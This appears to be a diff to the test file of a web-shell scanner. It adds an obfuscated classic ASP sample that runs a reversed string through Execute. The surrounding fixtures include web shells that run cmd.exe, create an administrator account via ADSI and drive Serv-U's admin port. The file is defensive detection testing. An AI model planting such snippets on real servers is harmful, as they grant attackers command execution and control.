@@ -13,6 +13,8 @@ const scan = (src: string, path: string) => scanner.scanBuffer(Buffer.from(src, 
 
 // (the reversed page of the own-decoder form: a line of ours, written backwards)
 const reversed = [...`Response.Write "a page kept backwards by its author" : x = ${'"abcdefghij" & '.repeat(24)}"end"`].reverse().join('');
+// (and one whose text holds a code word forwards by chance: "test" reversed is "tset", which holds "set ")
+const reversedTest = [...'Response.Write "hello from a test" : Set o = Server.CreateObject("Scripting.FileSystemObject") : '.repeat(6)].reverse().join('');
 
 const MALICIOUS: [string, string, string][] = [
   ['a variable function called through a braced bare name, ${c}(...)', '/var/www/html/a.php', `<?php $k = 'sys' . 'tem'; \${k}($_POST['q']); ?>`],
@@ -22,6 +24,7 @@ const MALICIOUS: [string, string, string][] = [
   ['ADSI WinNT:// making a user and adding it to Administrators', '/var/www/html/c2.php', `<?php\n$pc = new COM("WinNT://.");\n$user = $pc->Create("user", "helpdesk3");\n$user->SetPassword("Secret-2");\n$user->SetInfo();\n$g = new COM("WinNT://./Administrators,group");\n$g->Add("WinNT://helpdesk3");\n`],
   ['classic ASP executing characters picked by number out of a string', '/inetpub/wwwroot/d.asp', `<%\nFunction p(n) : p = Mid(t, n, 1) : End Function\nt = "qrstuvwxyz "\nExecute(p(3) & p(4) & p(5) & p(3) & p(4) & p(5) & p(11))\n%>`],
   ['classic ASP executing what its own function makes of a long reversed literal', '/inetpub/wwwroot/e.asp', `<%\nsrc = "${reversed.replace(/"/g, '""')}"\nExecute(Flip(src))\nFunction Flip(s)\nDim i, r\nFor i = 1 To Len(s)\nr = Mid(s, i, 1) & r\nNext\nFlip = r\nEnd Function\n%>`],
+  ['classic ASP executing what its own function makes of a reversed literal holding "set " forwards by chance', '/inetpub/wwwroot/e2.asp', `<%\nhu = "${reversedTest.replace(/"/g, '""')}"\nExecute(UnEncode(hu))\nFunction UnEncode(cc)\nFor i = 1 To Len(cc)\ntemp = Mid(cc, i, 1) & temp\nNext\nUnEncode = temp\nEnd Function\n%>`],
   ['a page driving Serv-U\'s local administration port', '/inetpub/wwwroot/f.asp', `<%\nSet h = Server.CreateObject("Microsoft.XMLHTTP")\nh.open "POST", "http://127.0.0.1:" & Request("port") & "/", False\nh.send "USER LocalAdministrator" & vbCrLf & "PASS " & Request("pw") & vbCrLf & "SITE MAINTENANCE" & vbCrLf & "-SETUSERSETUP" & vbCrLf & "-User=tmp1" & vbCrLf & "QUIT" & vbCrLf\n%>`],
   ['a few lines of ASP.NET that are a database client of the request', '/inetpub/wwwroot/g.aspx', `<%@ Page Language="C#" %>\n<%@ Import Namespace="System.Data.SqlClient" %>\n<%\nstring cs = Request.QueryString["c"];\nstring q = Request.QueryString["q"];\nusing (var db = new SqlConnection(cs)) { db.Open(); var cmd = new SqlCommand(q, db); var rd = cmd.ExecuteReader(); while (rd.Read()) Response.Write(rd[0] + "\\n"); }\n%>`],
   ['an ASP.NET web service (.soap) whose methods run programs and manage files', '/inetpub/wwwroot/h.soap', `<%@ WebService Language="C#" Class="Svc" %>\nusing System; using System.IO; using System.Diagnostics; using System.Web.Services;\npublic class Svc : WebService {\n  [WebMethod] public string Run(string a, string b) {\n    if (a == "L") return string.Join(",", Directory.GetLogicalDrives());\n    if (a == "D") { File.Delete(b); return "ok"; }\n    if (a == "W") { File.WriteAllText(b, "x"); return "ok"; }\n    var p = new ProcessStartInfo("cmd.exe", "/c " + b) { RedirectStandardOutput = true, UseShellExecute = false };\n    return Process.Start(p).StandardOutput.ReadToEnd();\n  }\n}\n`],
@@ -85,7 +88,7 @@ describe('scan: the techniques of held-out sets H1 to H4 (session 34)', () => {
       assert.equal(r.verdict, 'malicious', `${r.score}: ${r.findings.map((f) => `${f.rule} ${f.score}`).join(', ')}`);
     });
   }
-  it('ran every malicious form', () => assert.equal(MALICIOUS.length, 27));
+  it('ran every malicious form', () => assert.equal(MALICIOUS.length, 28));
 
   for (const [name, path, src] of LOOKALIKES) {
     it(`not malicious: ${name}`, () => {
